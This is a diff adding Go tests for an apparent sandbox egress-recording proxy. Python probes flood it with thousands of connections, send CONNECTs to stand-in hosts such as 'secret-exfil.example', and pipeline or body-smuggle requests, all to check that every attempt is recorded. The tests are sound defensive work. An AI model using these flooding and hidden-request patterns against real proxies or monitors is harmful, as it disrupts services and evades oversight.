@@ -244,17 +244,111 @@ func TestParseQueryEveryQuestion(t *testing.T) {
 	}
 }
 
+// TestProxyFloodIsRecorded: 64 connections held idle, then 1,500 CONNECTs
+// on connections of their own, then the secret, then an exit without
+// reading an answer; and 4,000 requests on connections closed at once.
+// Every request is recorded.
+func TestProxyFloodIsRecorded(t *testing.T) {
+	needNamespaces(t)
+	res := lossRun(t, evidence.EgressRecord, pyProbe(`
+keep = [socket.create_connection(proxy()) for _ in range(64)]
+for i in range(1500):
+    s = socket.create_connection(proxy())
+    s.sendall(b"CONNECT junk.example:443 HTTP/1.1\r\n\r\n")
+    keep.append(s)
+s = socket.create_connection(proxy())
+s.sendall(b"CONNECT secret-exfil.example:443 HTTP/1.1\r\n\r\n")
+os._exit(0)
+`), pyProbe(`
+for i in range(4000):
+    s = socket.create_connection(proxy())
+    s.sendall(b"GET http://flood.example/%d HTTP/1.1\r\nHost: flood.example\r\n\r\n" % i)
+    s.close()
+os._exit(0)
+`))
+	wantWhole(t, res, evidence.ViaProxy, map[string]int{"junk.example": 1500, "secret-exfil.example": 1, "flood.example": 4000})
+}
+
+// TestProxyOverflowIsReported: as TestDNSTCPOverflowIsReported, for the
+// proxy.
+func TestProxyOverflowIsReported(t *testing.T) {
+	needNamespaces(t)
+	res := lossRun(t, evidence.EgressRecord, pyProbe(`
+keep, sent = [], 0
+for i in range(6000):
+    s = socket.socket()
+    s.setblocking(False)
+    s.connect_ex(proxy())
+    keep.append(s)
+for s in keep:
+    try:
+        s.send(b"CONNECT over.example:443 HTTP/1.1\r\n\r\n")
+        sent += 1
+    except OSError:
+        pass
+print("SENT", sent)
+os._exit(0)
+`))
+	var sent int
+	fmt.Sscanf(res.Probes[0].Output[strings.Index(res.Probes[0].Output, "SENT"):], "SENT %d", &sent)
+	got := attempts(res.Egress, evidence.ViaProxy, "over.example")
+	t.Logf("%d requests sent, %d recorded, finish error %q", sent, got, res.FinishErr)
+	if got != sent && !incomplete(res) {
+		t.Errorf("%d requests sent, %d recorded, and the record is not called incomplete", sent, got)
+	}
+}
+
+// TestProxyRecordsEveryRequestOfAConnection: a request line longer than
+// the proxy reads is recorded (clipped, as malformed); every request on a
+// connection is recorded, sent after the answer to the first or pipelined
+// with it; a request's body is not taken for a request.
+func TestProxyRecordsEveryRequestOfAConnection(t *testing.T) {
+	needNamespaces(t)
+	res := lossRun(t, evidence.EgressRecord, pyProbe(`
+s = socket.create_connection(proxy())
+s.sendall(b"GET http://verylong.example/" + b"a" * 70000 + b" HTTP/1.1\r\nHost: verylong.example\r\n\r\n")
+print(s.recv(100))
+s.close()
+s = socket.create_connection(proxy())
+s.sendall(b"GET http://first.example/a HTTP/1.1\r\nHost: first.example\r\n\r\n")
+print(s.recv(100))
+try:
+    s.sendall(b"GET http://second-secret.example/b HTTP/1.1\r\nHost: second-secret.example\r\n\r\n")
+except OSError as e:
+    print("second request:", e)
+s.close()
+s = socket.create_connection(proxy())
+body = b"GET http://in-a-body.example/ HTTP/1.1\r\n\r\n"
+s.sendall(b"POST http://post.example/ HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % len(body) + body +
+    b"PUT http://chunked.example/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n" +
+    b"CONNECT pipelined.example:443 HTTP/1.1\r\n\r\n")
+s.close()
+`))
+	wantWhole(t, res, evidence.ViaProxy, map[string]int{"first.example": 1, "second-secret.example": 1,
+		"post.example": 1, "chunked.example": 1, "pipelined.example": 1, "in-a-body.example": 0})
+	long, _ := mustFind(t, res.Egress, "the long request line", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaProxy && strings.HasPrefix(e.Detail, "malformed request: GET http://verylong.example/aaaa")
+	})
+	if len(long.Detail) > maxRecorded+len("malformed request: ") {
+		t.Errorf("the long request line recorded as %d characters, want it clipped", len(long.Detail))
+	}
+	if !strings.Contains(res.Probes[0].Output, "400") || !strings.Contains(res.Probes[0].Output, "403") {
+		t.Errorf("answers: %s, want a 400 for the long line and a 403 for the first request", res.Probes[0].Output)
+	}
+}
+
 // TestDiscardedWritesAreReported: a client that exits with an answer
 // unread has its kernel reset the connection and throw away what it had
 // written and not yet sent. The client here holds its last write back
-// itself (TCP_CORK); the stub never sees it, and Finish says the record is
-// incomplete.
+// itself (TCP_CORK); the stub and the proxy never see it, and Finish says
+// the record is incomplete.
 func TestDiscardedWritesAreReported(t *testing.T) {
 	needNamespaces(t)
 	for _, tc := range []struct {
 		mode, to, first, last string
 	}{
 		{evidence.EgressDeny, `("127.0.0.1", 53)`, `tcpq(1, "first.example")`, `tcpq(2, "held.example")`},
+		{evidence.EgressRecord, `proxy()`, `b"CONNECT first.example:443 HTTP/1.1\r\n\r\n"`, `b"CONNECT held.example:443 HTTP/1.1\r\n\r\n"`},
 	} {
 		res := lossRun(t, tc.mode, pyProbe(`
 import select
